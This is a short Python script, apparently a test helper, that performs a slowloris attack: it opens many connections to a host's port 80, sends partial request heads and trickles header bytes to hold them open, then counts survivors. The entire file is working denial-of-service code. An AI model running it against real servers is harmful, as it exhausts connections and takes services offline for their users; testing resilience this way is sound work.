"""Run INSIDE an instance namespace: slowloris. ``python holder.py HOST N SECONDS`` opens N
connections to HOST:80, sends a partial request head and then one header byte a second on each,
for SECONDS; prints how many connections were open at the end."""

from __future__ import annotations

import socket
import sys
import time


def main(host: str, count: int, seconds: float) -> None:
    conns = []
    for _ in range(count):
        try:
            sock = socket.create_connection((host, 80), timeout=2)
            sock.sendall(b"GET /openstack HTTP/1.1\r\nHost: x\r\n")
            conns.append(sock)
        except OSError:
            break
    print(f"opened {len(conns)}", flush=True)
    end = time.time() + seconds
    while time.time() < end:
        time.sleep(1.0)
        for sock in list(conns):
            try:
                sock.sendall(b"X")
            except OSError:
                conns.remove(sock)
    print(len(conns), flush=True)


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]), float(sys.argv[3]))
